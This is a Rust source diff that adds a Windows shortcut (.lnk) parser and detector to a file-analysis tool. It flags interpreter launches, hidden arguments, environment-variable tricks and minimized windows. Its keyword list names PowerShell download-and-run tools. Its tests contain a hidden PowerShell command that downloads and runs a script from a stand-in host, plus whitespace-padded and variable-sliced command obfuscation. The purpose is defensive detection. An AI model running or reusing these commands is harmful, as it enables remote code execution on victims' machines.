@@ -0,0 +1,526 @@
+use crate::types::{
+    FileFormat, ParsedFile, FileMetadata, FileSection, ProcessorResult, FileProcessorError,
+    SuspiciousIndicator, SuspiciousSeverity, FileIntegrity
+};
+use crate::extractor::ContentExtractor;
+use std::collections::BTreeMap;
+
+/// HeaderSize (0x4C) followed by the Shell Link CLSID
+/// {00021401-0000-0000-C000-000000000046}
+pub const LNK_SIGNATURE: [u8; 20] = [
+    0x4C, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00,
+    0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46,
+];
+
+const HEADER_SIZE: usize = 0x4C;
+
+// LinkFlags
+const HAS_LINK_TARGET_ID_LIST: u32 = 0x0000_0001;
+const HAS_LINK_INFO: u32 = 0x0000_0002;
+const HAS_NAME: u32 = 0x0000_0004;
+const HAS_RELATIVE_PATH: u32 = 0x0000_0008;
+const HAS_WORKING_DIR: u32 = 0x0000_0010;
+const HAS_ARGUMENTS: u32 = 0x0000_0020;
+const HAS_ICON_LOCATION: u32 = 0x0000_0040;
+const IS_UNICODE: u32 = 0x0000_0080;
+
+// ExtraData block signatures
+const ENVIRONMENT_VARIABLE_BLOCK: u32 = 0xA000_0001;
+const ICON_ENVIRONMENT_BLOCK: u32 = 0xA000_0007;
+const ENVIRONMENT_BLOCK_SIZE: usize = 0x314;
+
+/// SW_SHOWMINNOACTIVE, used to keep the launched console out of sight
+const SHOW_MIN_NO_ACTIVE: u32 = 7;
+
+/// Keywords that make a shortcut's target or arguments suspicious
+pub const DEFAULT_LNK_SUSPICIOUS_KEYWORDS: &[&str] = &[
+    "powershell", "pwsh", "mshta", "cmd.exe", "cmd /c", "wscript", "cscript", "rundll32",
+    "regsvr32", "certutil", "bitsadmin", "msiexec", "-encodedcommand", "-enc ", "-windowstyle hidden",
+    "-w hidden", "downloadstring", "invoke-expression", "iex", "http://", "https://",
+];
+
+/// Arguments longer than this are cut off in the Properties dialog, so
+/// anything past it is hidden from a user inspecting the shortcut
+pub const DEFAULT_LNK_MAX_ARGUMENT_LENGTH: usize = 260;
+
+/// Tuning for shortcut analysis
+#[derive(Clone, Debug)]
+pub struct LnkConfig {
+    /// Case-insensitive substrings flagged in the target and arguments
+    pub suspicious_keywords: Vec<String>,
+    /// Arguments longer than this are flagged as hidden
+    pub max_argument_length: usize,
+}
+
+impl Default for LnkConfig {
+    fn default() -> Self {
+        Self {
+            suspicious_keywords: DEFAULT_LNK_SUSPICIOUS_KEYWORDS.iter().map(|k| k.to_string()).collect(),
+            max_argument_length: DEFAULT_LNK_MAX_ARGUMENT_LENGTH,
+        }
+    }
+}
+
+/// What a shortcut launches, as far as analysis needs it
+#[derive(Debug, Default, Clone, PartialEq)]
+pub struct ShellLink {
+    pub flags: u32,
+    pub show_command: u32,
+    pub target_path: Option<String>,
+    pub name: Option<String>,
+    pub relative_path: Option<String>,
+    pub working_dir: Option<String>,
+    pub arguments: Option<String>,
+    pub icon_location: Option<String>,
+    /// Target from an EnvironmentVariableDataBlock, e.g. `%COMSPEC%`
+    pub environment_target: Option<String>,
+    /// Icon from an IconEnvironmentDataBlock
+    pub environment_icon: Option<String>,
+}
+
+/// Parse Shell Link (.lnk) files with the default configuration
+pub fn parse_lnk(buffer: &[u8]) -> ProcessorResult<ParsedFile> {
+    parse_lnk_with_config(buffer, &LnkConfig::default())
+}
+
+/// Parse Shell Link (.lnk) files, flagging what `config` considers suspicious
+pub fn parse_lnk_with_config(buffer: &[u8], config: &LnkConfig) -> ProcessorResult<ParsedFile> {
+    let mut sections = Vec::new();
+    let mut issues = Vec::new();
+    let link = read_shell_link(buffer, &mut sections, &mut issues)?;
+
+    let mut metadata = FileMetadata {
+        size: buffer.len(),
+        hash: super::calculate_sha256(buffer),
+        mime_type: crate::detector::FileDetector::new().get_mime_type(FileFormat::LNK),
+        created_at: None,
+        modified_at: None,
+        attributes: BTreeMap::new(),
+    };
+    extract_lnk_attributes(&link, &mut metadata);
+
+    let suspicious_indicators = analyze_shell_link(&link, config);
+
+    let extractor = ContentExtractor::new();
+    let strings = extractor.extract_strings(buffer, 4);
+
+    Ok(ParsedFile {
+        format: FileFormat::LNK,
+        metadata,
+        sections,
+        embedded_files: Vec::new(),
+        strings,
+        suspicious_indicators,
+        integrity: FileIntegrity {
+            valid_structure: issues.is_empty(),
+            checksum_valid: None,
+            signature_valid: None,
+            issues,
+        },
+    })
+}
+
+/// Extract shortcut metadata
+pub fn extract_lnk_metadata(buffer: &[u8], metadata: &mut FileMetadata) -> ProcessorResult<()> {
+    let link = read_shell_link(buffer, &mut Vec::new(), &mut Vec::new())?;
+    extract_lnk_attributes(&link, metadata);
+    Ok(())
+}
+
+fn extract_lnk_attributes(link: &ShellLink, metadata: &mut FileMetadata) {
+    let attributes = &mut metadata.attributes;
+    attributes.insert("link_flags".to_string(), format!("0x{:08x}", link.flags));
+    attributes.insert("show_command".to_string(), link.show_command.to_string());
+
+    let fields = [
+        ("target_path", &link.target_path),
+        ("name", &link.name),
+        ("relative_path", &link.relative_path),
+        ("working_dir", &link.working_dir),
+        ("arguments", &link.arguments),
+        ("icon_location", &link.icon_location),
+        ("environment_target", &link.environment_target),
+        ("environment_icon", &link.environment_icon),
+    ];
+    for (key, value) in fields {
+        if let Some(value) = value {
+            attributes.insert(key.to_string(), value.clone());
+        }
+    }
+}
+
+/// Walk the header, LinkTargetIDList, LinkInfo, StringData and ExtraData
+/// structures. Truncated trailing structures are reported as integrity
+/// issues rather than failing the parse, since what was read is still useful.
+pub fn read_shell_link(buffer: &[u8], sections: &mut Vec<FileSection>, issues: &mut Vec<String>) -> ProcessorResult<ShellLink> {
+    if buffer.len() < HEADER_SIZE {
+        return Err(FileProcessorError::MalformedStructure(
+            "LNK file too small".to_string()
+        ));
+    }
+    if !buffer.starts_with(&LNK_SIGNATURE) {
+        return Err(FileProcessorError::InvalidFormat(
+            "Missing Shell Link header".to_string()
+        ));
+    }
+
+    let mut link = ShellLink {
+        flags: read_u32(buffer, 20).unwrap_or(0),
+        show_command: read_u32(buffer, 60).unwrap_or(0),
+        ..ShellLink::default()
+    };
+    push_section(sections, buffer, "ShellLinkHeader", 0, HEADER_SIZE);
+
+    let mut offset = HEADER_SIZE;
+
+    if link.flags & HAS_LINK_TARGET_ID_LIST != 0 {
+        let Some(size) = read_u16(buffer, offset) else {
+            issues.push("Truncated LinkTargetIDList".to_string());
+            return Ok(link);
+        };
+        push_section(sections, buffer, "LinkTargetIDList", offset, 2 + size as usize);
+        offset += 2 + size as usize;
+    }
+
+    if link.flags & HAS_LINK_INFO != 0 {
+        let Some(info) = read_u32(buffer, offset)
+            .filter(|&s| s >= 4)
+            .and_then(|s| buffer.get(offset..offset.checked_add(s as usize)?))
+        else {
+            issues.push("Truncated LinkInfo".to_string());
+            return Ok(link);
+        };
+        link.target_path = read_link_info_path(info);
+        push_section(sections, buffer, "LinkInfo", offset, info.len());
+        offset += info.len();
+    }
+
+    let flags = link.flags;
+    let unicode = flags & IS_UNICODE != 0;
+    let string_data_start = offset;
+    let string_fields = [
+        (HAS_NAME, &mut link.name),
+        (HAS_RELATIVE_PATH, &mut link.relative_path),
+        (HAS_WORKING_DIR, &mut link.working_dir),
+        (HAS_ARGUMENTS, &mut link.arguments),
+        (HAS_ICON_LOCATION, &mut link.icon_location),
+    ];
+    let mut truncated = false;
+    for (flag, field) in string_fields {
+        if flags & flag == 0 {
+            continue;
+        }
+        let Some((value, next)) = read_string_data(buffer, offset, unicode) else {
+            truncated = true;
+            break;
+        };
+        *field = Some(value);
+        offset = next;
+    }
+    if truncated {
+        issues.push("Truncated StringData".to_string());
+        return Ok(link);
+    }
+    if offset > string_data_start {
+        push_section(sections, buffer, "StringData", string_data_start, offset - string_data_start);
+    }
+
+    // ExtraData blocks run until a terminal block smaller than 4 bytes
+    while let Some(size) = read_u32(buffer, offset).map(|s| s as usize) {
+        if size < 4 {
+            break;
+        }
+        let Some(block) = offset.checked_add(size).and_then(|end| buffer.get(offset..end)).filter(|_| size >= 8) else {
+            issues.push(format!("Truncated ExtraData block at offset {}", offset));
+            break;
+        };
+        let signature = read_u32(buffer, offset + 4).unwrap_or(0);
+        match signature {
+            ENVIRONMENT_VARIABLE_BLOCK => {
+                link.environment_target = read_environment_block(block);
+                push_section(sections, buffer, "EnvironmentVariableDataBlock", offset, size);
+            }
+            ICON_ENVIRONMENT_BLOCK => {
+                link.environment_icon = read_environment_block(block);
+                push_section(sections, buffer, "IconEnvironmentDataBlock", offset, size);
+            }
+            _ => {}
+        }
+        offset += size;
+    }
+
+    // With no LinkInfo, the relative path is the best target we have
+    if link.target_path.is_none() {
+        link.target_path = link.environment_target.clone().or_else(|| link.relative_path.clone());
+    }
+
+    Ok(link)
+}
+
+fn push_section(sections: &mut Vec<FileSection>, buffer: &[u8], name: &str, offset: usize, size: usize) {
+    let end = offset.saturating_add(size).min(buffer.len());
+    let start = offset.min(end);
+    sections.push(FileSection {
+        name: name.to_string(),
+        offset,
+        size,
+        entropy: super::calculate_entropy(&buffer[start..end]),
+        flags: Vec::new(),
+    });
+}
+
+/// LocalBasePath followed by CommonPathSuffix, preferring the Unicode
+/// copies when the LinkInfo header carries them
+fn read_link_info_path(info: &[u8]) -> Option<String> {
+    let header_size = read_u32(info, 4)? as usize;
+    let local_base_offset = read_u32(info, 16)? as usize;
+    let suffix_offset = read_u32(info, 24)? as usize;
+
+    let unicode_offset = |field: usize| {
+        (header_size >= 0x24).then(|| read_u32(info, field)).flatten().filter(|&o| o != 0)
+    };
+    let base = unicode_offset(28)
+        .and_then(|o| read_utf16_z(info, o as usize))
+        .or_else(|| read_ansi_z(info, local_base_offset).filter(|_| local_base_offset != 0));
+    let suffix = unicode_offset(32)
+        .and_then(|o| read_utf16_z(info, o as usize))
+        .or_else(|| read_ansi_z(info, suffix_offset).filter(|_| suffix_offset != 0));
+
+    let path = format!("{}{}", base.unwrap_or_default(), suffix.unwrap_or_default());
+    (!path.is_empty()).then_some(path)
+}
+
+/// TargetAnsi (260 bytes) then TargetUnicode (520 bytes) after the block header
+fn read_environment_block(block: &[u8]) -> Option<String> {
+    if block.len() < ENVIRONMENT_BLOCK_SIZE {
+        return None;
+    }
+    read_utf16_z(&block[8 + 260..ENVIRONMENT_BLOCK_SIZE], 0)
+        .filter(|s| !s.is_empty())
+        .or_else(|| read_ansi_z(&block[8..8 + 260], 0))
+        .filter(|s| !s.is_empty())
+}
+
+/// A CountCharacters-prefixed string; returns it and the offset after it
+fn read_string_data(buffer: &[u8], offset: usize, unicode: bool) -> Option<(String, usize)> {
+    let count = read_u16(buffer, offset)? as usize;
+    let start = offset + 2;
+    let len = if unicode { count * 2 } else { count };
+    let bytes = buffer.get(start..start + len)?;
+
+    let value = if unicode {
+        let units: Vec<u16> = bytes.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
+        String::from_utf16_lossy(&units)
+    } else {
+        String::from_utf8_lossy(bytes).into_owned()
+    };
+    Some((value, start + len))
+}
+
+fn read_ansi_z(buffer: &[u8], offset: usize) -> Option<String> {
+    let bytes = buffer.get(offset..)?;
+    let end = bytes.iter().position(|&b| b == 0).unwrap_or(bytes.len());
+    Some(String::from_utf8_lossy(&bytes[..end]).into_owned())
+}
+
+fn read_utf16_z(buffer: &[u8], offset: usize) -> Option<String> {
+    let units: Vec<u16> = buffer
+        .get(offset..)?
+        .chunks_exact(2)
+        .map(|c| u16::from_le_bytes([c[0], c[1]]))
+        .take_while(|&u| u != 0)
+        .collect();
+    Some(String::from_utf16_lossy(&units))
+}
+
+fn read_u16(buffer: &[u8], offset: usize) -> Option<u16> {
+    buffer.get(offset..offset + 2).map(|b| u16::from_le_bytes([b[0], b[1]]))
+}
+
+fn read_u32(buffer: &[u8], offset: usize) -> Option<u32> {
+    buffer.get(offset..offset + 4).map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
+}
+
+/// Flag interpreter targets, suspicious arguments and environment-variable
+/// tricks used to hide what a shortcut really runs
+pub fn analyze_shell_link(link: &ShellLink, config: &LnkConfig) -> Vec<SuspiciousIndicator> {
+    let mut indicators = Vec::new();
+
+    let fields = [
+        ("Target", &link.target_path),
+        ("Arguments", &link.arguments),
+        ("Environment target", &link.environment_target),
+    ];
+    for (location, value) in fields {
+        let Some(value) = value else { continue };
+        let lowered = value.to_lowercase();
+
+        for keyword in &config.suspicious_keywords {
+            if lowered.contains(&keyword.to_lowercase()) {
+                indicators.push(SuspiciousIndicator {
+                    indicator_type: "Suspicious Shortcut Command".to_string(),
+                    description: format!("Shortcut {} references {}", location.to_lowercase(), keyword),
+                    severity: SuspiciousSeverity::High,
+                    location: Some(location.to_string()),
+                    evidence: truncate(value, 200),
+                });
+            }
+        }
+
+        for variable in environment_variables(value) {
+            // %COMSPEC% hides cmd.exe; %VAR:~n,m% slices are used to build
+            // command names character by character
+            let severity = if variable.contains(":~") || variable.eq_ignore_ascii_case("comspec") {
+                SuspiciousSeverity::High
+            } else {
+                SuspiciousSeverity::Low
+            };
+            indicators.push(SuspiciousIndicator {
+                indicator_type: "Shortcut Environment Variable".to_string(),
+                description: format!("Shortcut {} expands %{}%", location.to_lowercase(), variable),
+                severity,
+                location: Some(location.to_string()),
+                evidence: truncate(value, 200),
+            });
+        }
+    }
+
+    if let Some(arguments) = &link.arguments {
+        let leading_whitespace = arguments.chars().take_while(|c| c.is_whitespace()).count();
+        if arguments.chars().count() > config.max_argument_length || leading_whitespace > 32 {
+            indicators.push(SuspiciousIndicator {
+                indicator_type: "Hidden Shortcut Arguments".to_string(),
+                description: format!(
+                    "Arguments are {} characters with {} leading whitespace, hiding the command from the Properties dialog",
+                    arguments.chars().count(), leading_whitespace
+                ),
+                severity: SuspiciousSeverity::High,
+                location: Some("Arguments".to_string()),
+                evidence: truncate(arguments.trim_start(), 200),
+            });
+        }
+    }
+
+    if link.show_command == SHOW_MIN_NO_ACTIVE && link.arguments.is_some() {
+        indicators.push(SuspiciousIndicator {
+            indicator_type: "Minimized Shortcut".to_string(),
+            description: "Shortcut starts its target minimized without focus".to_string(),
+            severity: SuspiciousSeverity::Medium,
+            location: Some("ShellLinkHeader".to_string()),
+            evidence: format!("ShowCommand = {}", link.show_command),
+        });
+    }
+
+    indicators
+}
+
+/// Names between pairs of `%`, e.g. `COMSPEC` or `PUBLIC:~5,1`
+fn environment_variables(value: &str) -> Vec<&str> {
+    value
+        .split('%')
+        .skip(1)
+        .step_by(2)
+        .zip(value.split('%').skip(2).step_by(2))
+        .map(|(name, _)| name)
+        .filter(|name| !name.is_empty() && !name.contains(char::is_whitespace))
+        .collect()
+}
+
+fn truncate(value: &str, max_chars: usize) -> String {
+    match value.char_indices().nth(max_chars) {
+        Some((end, _)) => format!("{}...", &value[..end]),
+        None => value.to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn string_data(value: &str) -> Vec<u8> {
+        let units: Vec<u16> = value.encode_utf16().collect();
+        let mut data = (units.len() as u16).to_le_bytes().to_vec();
+        data.extend(units.iter().flat_map(|u| u.to_le_bytes()));
+        data
+    }
+
+    /// A Unicode shortcut with no ID list or LinkInfo, launching powershell
+    /// through its relative path, arguments and icon
+    fn crafted_lnk(arguments: &str) -> Vec<u8> {
+        let mut data = LNK_SIGNATURE.to_vec();
+        data.extend_from_slice(&(HAS_RELATIVE_PATH | HAS_ARGUMENTS | HAS_ICON_LOCATION | IS_UNICODE).to_le_bytes());
+        data.resize(60, 0);
+        data.extend_from_slice(&SHOW_MIN_NO_ACTIVE.to_le_bytes());
+        data.resize(HEADER_SIZE, 0);
+        data.extend(string_data(r"..\..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"));
+        data.extend(string_data(arguments));
+        data.extend(string_data(r"%SystemRoot%\System32\imageres.dll"));
+        data.extend_from_slice(&0u32.to_le_bytes());
+        data
+    }
+
+    #[test]
+    fn test_powershell_lnk_arguments_extracted_and_flagged() {
+        let arguments = "-w hidden -nop -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')";
+        let data = crafted_lnk(arguments);
+
+        let parsed = super::super::parse_file(&data, FileFormat::LNK).unwrap();
+
+        assert!(parsed.integrity.valid_structure);
+        assert_eq!(parsed.metadata.attributes.get("arguments").map(String::as_str), Some(arguments));
+        assert!(parsed.metadata.attributes["target_path"].ends_with("powershell.exe"));
+        assert_eq!(parsed.metadata.attributes["icon_location"], r"%SystemRoot%\System32\imageres.dll");
+
+        let flagged: Vec<&str> = parsed
+            .suspicious_indicators
+            .iter()
+            .filter(|i| i.indicator_type == "Suspicious Shortcut Command")
+            .map(|i| i.description.as_str())
+            .collect();
+        assert!(flagged.contains(&"Shortcut target references powershell"));
+        assert!(flagged.contains(&"Shortcut arguments references -w hidden"));
+        assert!(flagged.contains(&"Shortcut arguments references downloadstring"));
+        assert!(parsed.suspicious_indicators.iter().any(|i| i.indicator_type == "Minimized Shortcut"));
+    }
+
+    #[test]
+    fn test_padded_arguments_and_env_tricks_flagged() {
+        let arguments = format!("{}/c %COMSPEC% /c %PUBLIC:~5,1%md", " ".repeat(300));
+        let link = read_shell_link(&crafted_lnk(&arguments), &mut Vec::new(), &mut Vec::new()).unwrap();
+
+        let config = LnkConfig { suspicious_keywords: Vec::new(), ..LnkConfig::default() };
+        let indicators = analyze_shell_link(&link, &config);
+
+        assert!(indicators.iter().any(|i| i.indicator_type == "Hidden Shortcut Arguments"));
+        let variables: Vec<&str> = indicators
+            .iter()
+            .filter(|i| i.indicator_type == "Shortcut Environment Variable")
+            .map(|i| i.description.as_str())
+            .collect();
+        assert_eq!(variables, vec!["Shortcut arguments expands %COMSPEC%", "Shortcut arguments expands %PUBLIC:~5,1%"]);
+        assert!(!indicators.iter().any(|i| i.indicator_type == "Suspicious Shortcut Command"));
+    }
+
+    #[test]
+    fn test_lnk_detected_by_header() {
+        let data = crafted_lnk("/c whoami");
+        assert_eq!(crate::detector::FileDetector::new().detect_format(&data, None), FileFormat::LNK);
+    }
+
+    #[test]
+    fn test_oversized_block_sizes_reported_as_truncated() {
+        let mut data = crafted_lnk("/c calc");
+        let terminal = data.len() - 4;
+        data[terminal..].copy_from_slice(&u32::MAX.to_le_bytes());
+        let mut issues = Vec::new();
+        read_shell_link(&data, &mut Vec::new(), &mut issues).unwrap();
+        assert_eq!(issues, vec![format!("Truncated ExtraData block at offset {}", terminal)]);
+
+        let mut data = crafted_lnk("/c calc");
+        data[20..24].copy_from_slice(&HAS_LINK_INFO.to_le_bytes());
+        data.splice(HEADER_SIZE..HEADER_SIZE, u32::MAX.to_le_bytes());
+        let mut issues = Vec::new();
+        read_shell_link(&data, &mut Vec::new(), &mut issues).unwrap();
+        assert_eq!(issues, vec!["Truncated LinkInfo".to_string()]);
+    }
+}